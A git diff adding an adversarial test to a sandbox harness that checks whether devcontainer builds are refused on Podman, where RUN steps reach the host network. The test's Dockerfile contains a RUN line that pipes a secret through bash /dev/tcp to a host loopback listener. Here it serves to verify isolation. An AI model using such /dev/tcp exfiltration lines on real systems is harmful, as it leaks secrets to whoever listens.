@@ -21,6 +21,7 @@ import { ConfigError } from "../../../src/errors.js";
 import { ensureSandboxImage } from "../../../src/sandbox/docker/container/image.js";
 import { DockerSandbox } from "../../../src/sandbox/docker/docker-sandbox.js";
 import { skipDocker } from "../../support/docker-available.js";
+import { podman, skipPodman } from "../../support/podman-available.js";
 import { makeWorkspace } from "../../support/workspace.js";
 
 /** Every image a build of this file makes carries it, so the host can find (and remove) them. */
@@ -215,4 +216,42 @@ describe.skipIf(skipDocker)("adversarial: a devcontainer build fetching on the h
           .catch(() => {});
     }
   }, 180_000);
+});
+
+/**
+ * Podman's API builds (4.3 here) run RUN steps in the host's network namespace whatever the network
+ * mode asked: a workspace's RUN step reached the host's loopback. A `build` is refused there, before
+ * anything is built; from the host, the origin sees nothing.
+ */
+describe.skipIf(skipPodman)("adversarial: a devcontainer build's RUN step on Podman", () => {
+  it("is refused before it starts, and the host's loopback origin sees nothing", async () => {
+    const origin = await startOrigin();
+    try {
+      using ws = makeWorkspace("harness-devc-podman-");
+      mkdirSync(join(ws.path, ".devcontainer"));
+      writeFileSync(
+        join(ws.path, ".devcontainer", "Dockerfile"),
+        `FROM debian:bookworm-slim\nRUN bash -c 'echo ${SECRET} > /dev/tcp/127.0.0.1/${origin.port}' || true\n`,
+      );
+      writeFileSync(
+        join(ws.path, ".devcontainer", "devcontainer.json"),
+        '{"build": {"dockerfile": "Dockerfile"}}',
+      );
+      const devcontainer = loadDevcontainer(ws.path, undefined);
+      const error = await DockerSandbox.open({
+        workspace: ws.path,
+        devcontainer,
+        docker: podman as Docker,
+        removeOnStop: true,
+      }).then(
+        (sandbox) => sandbox.stop(),
+        (caught: unknown) => caught,
+      );
+      expect(origin.connections).toBe(0);
+      expect(error).toBeInstanceOf(ConfigError);
+      expect((error as Error).message).toMatch(/'build' is refused on Podman/);
+    } finally {
+      origin.server.close();
+    }
+  }, 300_000);
 });
